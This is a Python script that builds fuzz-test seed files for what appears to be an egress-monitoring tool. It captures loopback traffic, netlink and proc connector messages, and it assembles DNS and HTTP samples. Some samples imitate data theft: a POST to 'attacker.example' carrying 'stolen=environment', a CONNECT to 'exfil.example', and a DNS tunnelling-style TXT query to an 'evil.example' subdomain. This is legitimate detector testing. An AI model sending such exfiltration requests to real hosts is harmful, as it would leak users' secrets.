"""Write the seed inputs of ``tests/fuzz/seeds/`` from real captures on this machine.

    flock /tmp/kernel.lock sudo .venv/bin/python -m tests.fuzz.make_seeds

Needs root (a packet socket on loopback, the proc connector, sock_diag, ctnetlink). Captured
for real: IPv4/IPv6 TCP, UDP and ICMP packets this host sends on loopback, proc connector
datagrams of a fork+exec+exit, sock_diag answers (a found socket and ENOENT), ctnetlink's
answer, proc connector uid and ptrace events, nftables generation messages, a packet_diag
dump, /proc text and mountinfo, a ClientHello from Python's TLS client. Assembled in the
kernel's formats around those: nfqueue datagrams (each carrying a captured packet), DNS
messages (dnspython), HTTP heads like the ones our attack build scripts and curl send. The
policy, config and indicator seeds are the repository's own files. Traffic stays on
loopback; every socket is closed.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import ssl
import struct
import subprocess
import time
from pathlib import Path

import dns.message
import dns.rcode
import dns.rrset

from egress_monitor.events import FlowKey, Protocol
from egress_monitor.sources import conntrack, nfgen, packetdiag, proc_connector, sockdiag
from egress_monitor.sources.netlink import NLMSG_ERROR, nla, nlmsg
from egress_monitor.sources.nfqueue import (
    NFNL_SUBSYS_QUEUE,
    NFQA_PACKET_HDR,
    NFQA_PAYLOAD,
    NFQA_UID,
    NFQNL_MSG_PACKET,
)
from egress_monitor.sources.proc_connector import ProcConnector

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
SEEDS = HERE / "seeds"
ETH_P_ALL = 0x0003


def write(name: str, items: dict[str, bytes]) -> None:
    folder = SEEDS / name
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for key, data in items.items():
        (folder / key).write_bytes(data)
    print(f"{name}: {len(items)} seed(s)")


def capture_loopback() -> dict[str, bytes]:
    """Packets this host sends on lo: TCP SYN and data, UDP, ICMP echo, over v4 and v6."""
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    cap.bind(("lo", 0))
    cap.settimeout(0.2)
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with socket.socket(family, socket.SOCK_STREAM) as srv:
            srv.bind((host, 0))
            srv.listen(1)
            with socket.create_connection((host, srv.getsockname()[1])) as cli:
                conn, _ = srv.accept()
                cli.sendall(b"POST /collect HTTP/1.1\r\nHost: attacker.example\r\n"
                            b"Content-Length: 18\r\n\r\nstolen=environment")
                conn.recv(100)
                conn.close()
        with socket.socket(family, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05index\x06crates"
                       b"\x02io\x00\x00\x01\x00\x01", (host, 53))
    for family, proto, kind, host in ((socket.AF_INET, socket.IPPROTO_ICMP, 8, "127.0.0.1"),
                                      (socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, "::1")):
        with socket.socket(family, socket.SOCK_RAW, proto) as icmp:
            body = struct.pack("!BBHHH", kind, 0, 0, 0x4242, 1) + b"ping"
            if family == socket.AF_INET:  # v4 wants our checksum; the v6 stack adds its own
                total = sum(struct.unpack("!6H", body)) & 0xFFFFFFFF
                total = (total >> 16) + (total & 0xFFFF)
                body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + \
                    body[4:]
            icmp.sendto(body, (host, 0))
    packets: dict[str, bytes] = {}
    with contextlib.suppress(TimeoutError):
        while len(packets) < 40:
            data, addr = cap.recvfrom(65535)
            # lo shows each packet twice (sent, received): keep one of each
            if addr[2] == socket.PACKET_OUTGOING and data not in packets.values():
                packets[f"lo-{len(packets):02d}-v{data[0] >> 4}"] = data
    cap.close()
    return packets


def proc_events() -> dict[str, bytes]:
    """Raw proc connector datagrams of one fork+exec+exit."""
    pc = ProcConnector()
    raw = pc._sock  # the datagrams themselves, not the decoded events
    subprocess.run(["/bin/true"], check=True)
    out: dict[str, bytes] = {}
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline and len(out) < 12:
        try:
            out[f"event-{len(out):02d}"] = raw.recv(65536)
        except BlockingIOError:
            time.sleep(0.01)
    pc.close()
    return out


def tamper_events() -> dict[str, bytes]:
    """Proc connector datagrams of a uid change (setpriv to nobody) and a ptrace attach."""
    import ctypes

    pc = ProcConnector()
    raw = pc._sock
    subprocess.run(["setpriv", "--reuid=65534", "/bin/true"], check=True)
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        libc.ptrace(16, child, None, None)  # PTRACE_ATTACH
        os.waitpid(child, 0)
        libc.ptrace(17, child, None, None)  # PTRACE_DETACH
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
    out: dict[str, bytes] = {}
    wanted = {proc_connector.PROC_EVENT_UID: "uid", proc_connector.PROC_EVENT_PTRACE: "ptrace"}
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline and len(out) < 4:
        try:
            data = raw.recv(65536)
        except BlockingIOError:
            time.sleep(0.01)
            continue
        what = struct.unpack_from("=I", data, 16 + 20)[0]
        if what in wanted:
            out[f"{wanted[what]}-{len(out):02d}"] = data
    pc.close()
    return out


def nft_answers() -> dict[str, bytes]:
    """NFT_MSG_GETGEN's answer, and the notifications of one commit (a chain made and
    removed by iptables: a NEWCHAIN, a DELCHAIN and the NEWGEN ending each transaction)."""
    out = {}
    gen = nfgen.NftGeneration()
    try:
        gen._req.send(nlmsg(nfgen.GETGEN_TYPE, 1, 9, struct.pack("=BBH", 0, 0, 0)))
        out["getgen"] = gen._req.recv(65536)
        subprocess.run(["iptables", "-w", "-N", "EM-SEED"], check=True)
        subprocess.run(["iptables", "-w", "-X", "EM-SEED"], check=True)
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline and len(out) < 5:
            try:
                out[f"commit-{len(out):02d}"] = gen._sub.recv(65536)
            except BlockingIOError:
                time.sleep(0.01)
    finally:
        gen.close()
    return out


def packet_diag_answers() -> dict[str, bytes]:
    """packet_diag's dump with one packet socket of ours open."""
    out = {}
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)), \
            socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as nl:
        nl.settimeout(1)
        nl.send(nlmsg(packetdiag.SOCK_DIAG_BY_FAMILY, 1 | packetdiag.NLM_F_DUMP, 3,
                      struct.pack("=BBHIIII", socket.AF_PACKET, 0, 0, 0, 0, 0xFFFFFFFF,
                                  0xFFFFFFFF)))
        for i in range(4):
            data = nl.recv(65536)
            out[f"dump-{i}"] = data
            if packetdiag.parse_dump(data)[1]:
                break
    out["proc-net-packet"] = Path("/proc/net/packet").read_bytes()[:6000]
    return out


def sock_diag_answers() -> dict[str, bytes]:
    """sock_diag's answer for a live loopback TCP socket, and for one that does not exist."""
    out: dict[str, bytes] = {}
    nl = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, sockdiag.NETLINK_SOCK_DIAG)
    nl.settimeout(1)
    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        with socket.create_connection(srv.getsockname()) as cli:
            sport, dport = cli.getsockname()[1], srv.getsockname()[1]
            for label, port in (("found", dport), ("enoent", 1)):
                req = (sockdiag._REQ.pack(socket.AF_INET, socket.IPPROTO_TCP, 0, 0xFFFFFFFF)
                       + sockdiag._SOCKID.pack(sport, port, socket.inet_aton("127.0.0.1")
                                               + b"\0" * 12,
                                               socket.inet_aton("127.0.0.1") + b"\0" * 12)
                       + sockdiag._TAIL.pack(0, 0xFFFFFFFF, 0xFFFFFFFF))
                nl.send(nlmsg(sockdiag.SOCK_DIAG_BY_FAMILY, 1, 1, req))
                out[label] = nl.recv(8192)
    nl.close()
    return out


def conntrack_answers() -> dict[str, bytes]:
    """ctnetlink's answer to a GET for a loopback flow (an error when it is not tracked),
    and an assembled answer with counters in the kernel's layout."""
    out: dict[str, bytes] = {}
    nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, conntrack.NETLINK_NETFILTER)
    nl.settimeout(1)
    flow = FlowKey(family=4, protocol=Protocol.TCP, proto_number=6, src="127.0.0.1",
                   src_port=40000, dst="127.0.0.1", dst_port=8080)
    nl.send(conntrack.get_request(flow, 1))
    with contextlib.suppress(OSError):
        out["kernel-answer"] = nl.recv(65536)
    nl.close()
    counters = (nla(conntrack.CTA_COUNTERS_ORIG | conntrack.NLA_F_NESTED,
                    nla(1, struct.pack("!Q", 3)) + nla(conntrack.CTA_COUNTERS_BYTES,
                                                       struct.pack("!Q", 1841)))
                + nla(conntrack.CTA_COUNTERS_REPLY | conntrack.NLA_F_NESTED,
                      nla(1, struct.pack("!Q", 2)) + nla(conntrack.CTA_COUNTERS_BYTES,
                                                         struct.pack("!Q", 120))))
    body = struct.pack("!BBH", socket.AF_INET, 0, 0) + bytes(conntrack.get_request(
        flow, 1)[20:]) + counters
    out["counters"] = nlmsg(conntrack.NFNL_SUBSYS_CTNETLINK << 8 | conntrack.IPCTNL_MSG_CT_NEW,
                            0, 1, body)
    return out


def nfqueue_datagrams(packets: dict[str, bytes]) -> dict[str, bytes]:
    out = {}
    for i, (name, pkt) in enumerate(sorted(packets.items())[:8]):
        attrs = (nla(NFQA_PACKET_HDR, struct.pack("!IHB", 1000 + i, 0x0800, 3) + b"\0")
                 + nla(NFQA_UID, struct.pack("!I", 1000)) + nla(NFQA_PAYLOAD, pkt))
        out[f"queued-{name}"] = nlmsg(NFNL_SUBSYS_QUEUE << 8 | NFQNL_MSG_PACKET, 0, 0,
                                      struct.pack("!BBH", socket.AF_INET, 0, 31000) + attrs)
    return out


def client_hellos() -> dict[str, bytes]:
    out = {"fixture": (REPO / "tests" / "fixtures" / "client_hello.bin").read_bytes()}
    for name in ("index.crates.io", "static.crates.io"):
        ctx = ssl.create_default_context()
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = ctx.wrap_bio(incoming, outgoing, server_hostname=name)
        with contextlib.suppress(ssl.SSLWantReadError):
            tls.do_handshake()
        out[f"python-{name}"] = outgoing.read()
    return out


def dns_messages() -> tuple[dict[str, bytes], dict[str, bytes]]:
    queries, answers = {}, {}
    for name, rdtype, edns in (("index.crates.io", "A", -1), ("static.crates.io", "AAAA", 0),
                               ("aGVsbG8.t.evil.example", "TXT", 0), (".", "NS", -1)):
        q = dns.message.make_query(name, rdtype, use_edns=edns, payload=1232)
        queries[f"{rdtype}-{name.strip('.') or 'root'}"] = q.to_wire()
        r = dns.message.make_response(q)
        if rdtype in ("A", "AAAA"):
            target = "cdn.example."
            r.answer.append(dns.rrset.from_text(name + ".", 300, "IN", "CNAME", target))
            addr = "192.0.2.7" if rdtype == "A" else "2001:db8::7"
            r.answer.append(dns.rrset.from_text(target, 60, "IN", rdtype, addr, addr[:-1] + "8"))
        else:
            r.set_rcode(dns.rcode.NXDOMAIN)
        answers[f"{rdtype}-{name.strip('.') or 'root'}"] = r.to_wire()
    return queries, answers


def main() -> None:
    packets = capture_loopback()
    write("packets", packets)
    write("nfqueue", nfqueue_datagrams(packets))
    write("proc_connector", {**proc_events(), **tamper_events()})
    write("nfgen", nft_answers())
    write("packetdiag", packet_diag_answers())
    write("rulecheck", {"save-v4": (REPO / "tests" / "unit" / "iptables_save_v4.txt")
                        .read_bytes()})
    diag = sock_diag_answers()
    write("sockdiag", diag)
    ct = conntrack_answers()
    write("conntrack", ct)
    write("netlink", {**{f"sockdiag-{k}": v for k, v in diag.items()},
                      **{f"conntrack-{k}": v for k, v in ct.items()},
                      "error-empty": nlmsg(NLMSG_ERROR, 0, 1, b"")})
    write("tls", client_hellos())
    queries, answers = dns_messages()
    write("dns_query", queries)
    write("dns_answer", answers)
    write("http", {
        "post": b"POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 18\r\n"
                b"Connection: close\r\n\r\nstolen=environment",
        "curl-get": b"GET /index HTTP/1.1\r\nHost: index.crates.io\r\nUser-Agent: curl/8.5.0"
                    b"\r\nAccept: */*\r\n\r\n",
        "connect": b"CONNECT exfil.example:8443 HTTP/1.1\r\nHost: exfil.example:8443\r\n\r\n",
        "proxy-uri": b"GET http://[2001:db8::7]:8080/x HTTP/1.1\r\nHost: [2001:db8::7]\r\n\r\n",
        "chunked": b"PUT /u HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nAWS_S\r\n"})
    pid = os.getpid()
    with contextlib.ExitStack() as held:  # sockets of each kind, so the tables list some
        for family, kind, proto, host in (
                (socket.AF_INET, socket.SOCK_DGRAM, 0, "127.0.0.1"),
                (socket.AF_INET6, socket.SOCK_DGRAM, 0, "::1"),
                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "127.0.0.1"),
                (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, "::1")):
            sock = held.enter_context(socket.socket(family, kind, proto))
            sock.bind((host, 0))
        tables = {f"net-{t}": Path(f"/proc/net/{t}").read_bytes()[:6000]
                  for t in ("tcp", "udp", "udp6", "icmp", "raw", "raw6")}
    write("procfs", {
        "stat": Path(f"/proc/{pid}/stat").read_bytes(),
        "stat-odd-comm": b"4242 (a) b (c) S 1 4242 4242 0 -1 4194560 0 0 0 0\n",
        "cgroup": Path(f"/proc/{pid}/cgroup").read_bytes(),
        **tables,
        "fd-link": b"socket:[123456]"})
    write("control", {"exec": b'{"op": "exec"}\n', "status": b'{"op": "status"}\n'})
    write("cgroups", {
        "mountinfo": Path("/proc/self/mountinfo").read_bytes()[:6000],
        "build": b"/system.slice/runner.service/egress-build-q31000-18c1f2a3b4c-4242",
        "nested": b"/egress-build-q31007-18c1f2a3b4c-4242/cargo/sub"})
    write("listen", {"v4": b"127.0.0.1:9464", "v6": b"[::1]:9464", "any": b":9464"})
    write("semver", {f"r{i}": t.encode() for i, t in enumerate(
        ("^1.2", "~0.3", ">=0.3, <0.4", "=0.3.10", "0.3", "*", "1.*", "=1.2.3-alpha.1",
         "1.2.3+build.5"))})
    policies = sorted((REPO / "policies").rglob("*.yaml"))
    write("policy", {p.name: p.read_bytes() for p in policies if p.name != "iocs.yaml"})
    write("config", {"config.yaml": (REPO / "deploy" / "config.yaml").read_bytes()})
    write("iocs", {"iocs.yaml": (REPO / "policies" / "iocs.yaml").read_bytes()})


if __name__ == "__main__":
    main()
